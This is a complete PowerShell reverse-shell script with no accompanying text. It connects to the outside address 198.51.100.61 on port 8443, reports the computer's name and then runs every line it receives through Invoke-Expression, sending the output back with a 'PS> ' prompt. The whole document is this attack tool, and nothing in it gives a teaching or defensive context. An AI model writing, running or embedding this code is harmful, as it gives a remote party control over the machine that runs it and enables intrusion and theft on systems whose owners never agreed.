$server = "198.51.100.61"
$port = 8443

$client = New-Object Net.Sockets.TcpClient($server, $port)
$stream = $client.GetStream()
$reader = New-Object IO.StreamReader($stream)
$writer = New-Object IO.StreamWriter($stream)
$writer.AutoFlush = $true
$writer.WriteLine("connected: $env:COMPUTERNAME")

while ($client.Connected) {
    $line = $reader.ReadLine()
    if ($null -eq $line) { break }
    $result = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_.Exception.Message }
    $writer.Write($result + "PS> ")
}
$client.Close()
